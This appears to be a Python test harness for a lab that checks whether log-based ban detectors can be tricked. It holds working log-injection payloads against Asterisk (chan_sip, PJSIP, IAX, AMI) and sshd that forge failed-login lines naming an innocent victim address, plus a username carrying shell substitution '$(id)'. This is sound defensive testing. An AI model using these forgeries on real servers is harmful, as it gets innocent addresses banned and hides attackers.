"""Requests that make real servers write lines, fields or events naming somebody who did nothing.

Each function plays one forgery from one address; VICTIM is the address it tries to get banned. A detector
passes when, fed with what the servers wrote, it never names VICTIM, and names the attacker where it can.
"""

import socket
import struct
import time
from functools import partial

import ami
import iax
import net as lab_net
import ssh
from attacks import CHAN_SIP_16, PJSIP_16, PJSIP_22
from net import VICTIM
from sip import Client

BLAME = f"Registration from '<sip:9@pbx>' failed for '{VICTIM}:5060' - Wrong password"
SECURITY = (
    'SecurityEvent="InvalidPassword",EventTV="2026-01-01T00:00:00.000+0000",Severity="Error",Service="SIP",'
    'EventVersion="2",AccountID="9",SessionID="0x1",LocalAddress="IPV4/UDP/198.51.100.16/5060",'
    f'RemoteAddress="IPV4/UDP/{VICTIM}/5060",Challenge="1",ReceivedChallenge="1",ReceivedHash="1"'
)


def stamp(target):
    """The time as the target's log writes it now: with a forged line, a good liar gets that right too."""
    now = time.gmtime()
    return time.strftime("%F %T.000" if target.role == "srv22" else "%b %e %T", now)


def forged_lines(target):
    """The lines an attacker would like to see in the log: one NOTICE, one SECURITY."""
    when = stamp(target)
    return f"[{when}] NOTICE[99] chan_sip.c: {BLAME}", f"[{when}] SECURITY[99] res_security_log.c: {SECURITY}"


def escaped(text):
    """A SIP user part: everything that is not a letter or a digit as %hh."""
    return "".join(c if c.isalnum() and c.isascii() else "".join(f"%{b:02x}" for b in c.encode()) for c in text)


def _client(lab, target, source, **how):
    return Client(lab, source, target.address(source), target.port, timeout=1.2, **how)


def pjsip_call_id_tail(lab, target, source):
    call_id = f"1) - Failed to authenticate' from 'x' failed for '{VICTIM}:5060' (callid: 2"
    with _client(lab, target, source) as client:
        client.register("9119", "wrong", call_id=call_id)
        client.register(target.known, "wrong", call_id=call_id)


def chan_sip_via_maddr(lab, target, source):
    with _client(lab, target, source) as client:
        client.register(target.fenced, "wrong", via=f";maddr={VICTIM}")
        client.invite("00972592577956", via=f";maddr={VICTIM}")


def chan_sip_number_newline(lab, target, source):
    for line in forged_lines(target):
        with _client(lab, target, source) as client:
            client.invite(f"9{escaped(chr(10) + line + chr(10))}")


def chan_sip_user_newline(lab, target, source):
    for line in forged_lines(target):
        with _client(lab, target, source) as client:
            client.register("9" + escaped("\n" + line + "\n"), "wrong")


def iax_user_newline(lab, target, source):
    """One datagram, whose source address nobody checks; elements hold at most 255 bytes."""
    notice, _ = forged_lines(target)
    iax.without_token(lab, source, target.role, f"x\n{notice}\n".encode()[:255])


def http_user_newline(lab, target, source):
    for line in forged_lines(target):
        ami.http_login(lab, source, target.role, f"x\n{line}\n")


def http_user_event(lab, target, source):
    event = f"x\r\n\r\nEvent: InvalidPassword\r\nService: SIP\r\nRemoteAddress: IPV4/UDP/{VICTIM}/5060\r\nAccountID: 9"
    ami.http_login(lab, source, target.role, event)


def pjsip_user_header(lab, target, source):
    user = escaped(f"\r\nRemoteAddress:IPV4/UDP/{VICTIM}/")
    with _client(lab, target, source) as client:
        client.register(user, "wrong")


def pjsip_call_id_field(lab, target, source):
    with _client(lab, target, source) as client:
        client.register("9229", "wrong", call_id=f'1",RemoteAddress="IPV4/UDP/{VICTIM}/5060",Foo="')


def ami_action_field(lab, target, source):
    with ami.Session(lab, source, target.role, timeout=1.5) as session:
        session.send(Action=f'Foo",RemoteAddress="IPV4/TCP/{VICTIM}/1')
        session.read()


def quotes(lab, target, source):
    """Not a forgery but its sibling: quotes and brackets that make a pattern miss the line."""
    with _client(lab, target, source) as client:
        me = f'"o\'x" <sip:9339@{client.domain}>'
        client.register("9339", "wrong", from_=me, to=me)
        client.register("9339", "wrong", call_id="a'b)c")
        client.invite("99'9")


def pjsip_number_newline(lab, target, source):
    """After a login that works: a customer's own phone, or a stolen account."""
    with _client(lab, target, source) as client:
        client.invite("9" + escaped(f"\nfailed for '{VICTIM}:5060'"), target.weak, "sunshine")


def ami_user_return(lab, target, source):
    with ami.Session(lab, source, target.role, timeout=2.5) as session:
        session.login(f"x\r{forged_lines(target)[0]}\r", "wrong")


def pjsip_packet_dump(lab, target, source):
    """A request without CSeq: PJSIP prints the whole packet into the log, lines and all."""
    body = "\r\n".join(["", *forged_lines(target), ""])
    with _client(lab, target, source) as client:
        whole = client.build("OPTIONS", f"sip:{client.domain}", from_="<sip:9@x>", to="<sip:9@x>", body=body)
        client.send(b"\r\n".join(line for line in whole.split(b"\r\n") if not line.startswith(b"CSeq")))
        time.sleep(0.2)


def pjsip_digest_field(lab, target, source):
    """Quotes inside the values of an Authorization header; PJSIP logs them after the true address."""
    fake = f'x\\",LocalAddress=\\"IPV4/UDP/198.51.100.16/1\\",RemoteAddress=\\"IPV4/UDP/{VICTIM}/5060\\",Foo=\\"'
    with _client(lab, target, source) as client:
        me = f"<sip:{target.known}@{client.domain}>"
        header = f'Authorization: Digest username="{target.known}",realm="asterisk",nonce="{fake}",uri="sip:x"'
        extra = (f'{header},response="{fake}"',)
        client.request("REGISTER", f"sip:{client.domain}", from_=me, to=me, extra=extra)


def json_escapes(lab, target, source):
    """Everything that could end a JSON string early, in the one place that is logged as it came."""
    with _client(lab, target, source) as client:
        client.register("9449", "wrong", call_id=f'a\\","message":"RemoteAddress=\\"IPV4/UDP/{VICTIM}/1\\""}}')


# The numbers are those of the rows in the catalogue of forgeries; 14 to 16 are this lab's additions.
INJECTIONS = (
    ("01-pjsip-call-id-tail", pjsip_call_id_tail, (PJSIP_16, PJSIP_22)),
    ("02-chan-sip-via-maddr", chan_sip_via_maddr, (CHAN_SIP_16,)),
    ("03-chan-sip-number-newline", chan_sip_number_newline, (CHAN_SIP_16,)),
    ("04-chan-sip-user-newline", chan_sip_user_newline, (CHAN_SIP_16,)),
    ("05-iax-user-newline", iax_user_newline, (CHAN_SIP_16, PJSIP_22)),
    ("06-http-user-newline", http_user_newline, (CHAN_SIP_16, PJSIP_22)),
    ("07-http-user-event", http_user_event, (CHAN_SIP_16, PJSIP_22)),
    ("08-pjsip-user-header", pjsip_user_header, (PJSIP_16, PJSIP_22)),
    ("09-pjsip-call-id-field", pjsip_call_id_field, (PJSIP_16, PJSIP_22)),
    ("10-ami-action-field", ami_action_field, (CHAN_SIP_16, PJSIP_22)),
    ("11-quotes", quotes, (CHAN_SIP_16, PJSIP_16, PJSIP_22)),
    ("12-pjsip-number-newline", pjsip_number_newline, (PJSIP_16, PJSIP_22)),
    ("13-ami-user-return", ami_user_return, (CHAN_SIP_16, PJSIP_22)),
    ("14-pjsip-packet-dump", pjsip_packet_dump, (PJSIP_16, PJSIP_22)),
    ("15-json-escapes", json_escapes, (PJSIP_16, PJSIP_22)),
    ("16-pjsip-digest-field", pjsip_digest_field, (PJSIP_16, PJSIP_22)),
)


def injections(role):
    """What to play against a server: (kind, attacker's address, function(lab, source))."""
    number = 200
    for kind, play, targets in INJECTIONS:
        for target in targets:
            number += 1
            if target.role == role:
                yield kind, f"203.0.113.{number}", partial(play, target=target)


# ---- sshd ----

SSH_BANNER = b"SSH-2.0-lab\r\n"


def ssh_user(lab, source, user):
    ssh.login_any_name(lab, source, user)


def _packet(payload):
    """An unencrypted SSH packet (RFC 4253 section 6)."""
    padding = 8 - (len(payload) + 5) % 8 + 8
    return struct.pack("!IB", len(payload) + padding + 1, padding) + payload + bytes(padding)


def _text(data):
    return struct.pack("!I", len(data)) + data


def ssh_raw(lab, source, *sent):
    """Sends bytes to port 22, reading what comes in between, then waits for the server to hang up."""
    with lab.socket(source, socket.SOCK_STREAM, timeout=2.0) as sock:
        sock.connect((lab_net.server_address("sshsrv", lab_net.family_of(source)), 22))
        for data in sent:
            sock.recv(4096)
            sock.send(data)
        try:
            while sock.recv(4096):
                pass
        except OSError:
            pass


def ssh_disconnect(lab, source):
    text = f"Bye from {VICTIM} port 22 [preauth]".encode()
    ssh_raw(lab, source, SSH_BANNER, _packet(b"\1" + struct.pack("!I", 11) + _text(text) + _text(b"")))


def ssh_offer(lab, source):
    offer = f"x [preauth] from {VICTIM} port 22".encode()
    lists = [offer, b"ssh-ed25519"] + [b"aes128-ctr"] * 2 + [b"hmac-sha2-256"] * 2 + [b"none"] * 2 + [b""] * 2
    init = b"\x14" + bytes(16) + b"".join(_text(one) for one in lists) + b"\0" * 5
    ssh_raw(lab, source, SSH_BANNER, _packet(init))


def ssh_version(lab, source):
    ssh_raw(lab, source, f"GET x from {VICTIM} port 22\r\n".encode() * 2)


SSH_INJECTIONS = (
    ("ssh-user-from", partial(ssh_user, user=f"x from {VICTIM} port 22 ssh2")),
    ("ssh-user-root-from", partial(ssh_user, user=f"root from {VICTIM} port 1 ssh2: RSA SHA256:x")),
    ("ssh-user-rhost", partial(ssh_user, user=f"x rhost={VICTIM}  user=root")),
    ("ssh-user-newline", partial(ssh_user, user=f"x\nJan  1 00:00:00 pbx sshd[1]: Failed password for root from {VICTIM}"
                                                 " port 1 ssh2")),
    ("ssh-user-long", partial(ssh_user, user=f" from {VICTIM}".rjust(100, "u") + " port 22")),
    ("ssh-user-tags", partial(ssh_user, user="<ip><HOST>$(id)`id`;%h")),
    ("ssh-user-empty", partial(ssh_user, user=" ")),
    ("ssh-disconnect-text", ssh_disconnect),
    ("ssh-offer-text", ssh_offer),
    ("ssh-version-text", ssh_version),
    # The name this address has in the server's /etc/hosts begins with the victim's address.
    ("ssh-host-name", partial(ssh_user, user="nobody1")),
)  # fmt: skip
SSH_NAMED = "203.0.113.210"
SSH_HOSTS = f"{SSH_NAMED} {VICTIM}.example.org\n"


def ssh_injections():
    """(kind, attacker's address, function(lab, source)); the last comes from the address with the false name."""
    for number, (kind, play) in enumerate(SSH_INJECTIONS):
        yield kind, f"203.0.113.{200 + number}", play

